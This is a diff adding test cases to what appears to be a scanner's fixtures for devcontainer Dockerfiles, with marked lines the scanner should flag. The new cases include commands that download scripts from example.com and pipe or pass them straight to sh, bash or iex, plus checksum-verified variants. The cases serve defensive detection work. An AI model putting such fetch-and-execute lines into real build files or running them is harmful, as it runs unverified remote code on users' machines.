@@ -33,6 +33,25 @@ a script, and a server can tell a pipe from a person.`,
       },
     },
     {
+      title: 'in other words',
+      files: {
+        'devcontainer.json': '{ "build": { "dockerfile": "Dockerfile" } }',
+        Dockerfile: [
+          'FROM debian',
+          '«RUN ["/bin/bash", "-lc", "curl -fsSL https://example.com/a.sh | sh"]»',
+          'RUN «wget https://example.com/b.sh && bash b.sh»',
+          'RUN «wget -q https://example.com/c.sh -P /tmp && sh /tmp/c.sh»',
+          'RUN curl -o /tmp/d.sh https://example.com/d.sh',
+          'RUN «bash /tmp/d.sh»',
+          'ADD https://example.com/e.sh /tmp/',
+          'RUN «sh /tmp/e.sh»',
+          'RUN «F=$(curl -s https://example.com/f) && bash -c "$F"»',
+          'RUN «irm https://example.com/g | iex»',
+          '',
+        ].join('\n'),
+      },
+    },
+    {
       title: 'in a script that a command calls',
       files: {
         '.devcontainer/devcontainer.json': '{ "image": "debian", "postCreateCommand": "bash .devcontainer/setup.sh" }',
@@ -68,6 +87,22 @@ a script, and a server can tell a pipe from a person.`,
         'devcontainer.json': '{ "build": { "dockerfile": "Dockerfile" } }',
         Dockerfile:
           'FROM debian\nRUN curl -o i.sh https://example.com/i.sh && echo "abc  i.sh" | sha256sum -c && sh i.sh\n',
+      },
+    },
+    {
+      title: 'a checksum in a later instruction, and one of ADD',
+      files: {
+        'devcontainer.json': '{ "build": { "dockerfile": "Dockerfile" } }',
+        Dockerfile: [
+          'FROM debian',
+          'RUN curl -o /tmp/d.sh https://example.com/d.sh',
+          'RUN echo "abc  /tmp/d.sh" | sha256sum -c',
+          'RUN bash /tmp/d.sh',
+          'ADD --checksum=sha256:0123 https://example.com/e.sh /tmp/',
+          'RUN sh /tmp/e.sh',
+          'RUN wget https://example.com/a.tgz && tar xf a.tgz && sh a/install.sh',
+          '',
+        ].join('\n'),
       },
     },
     {
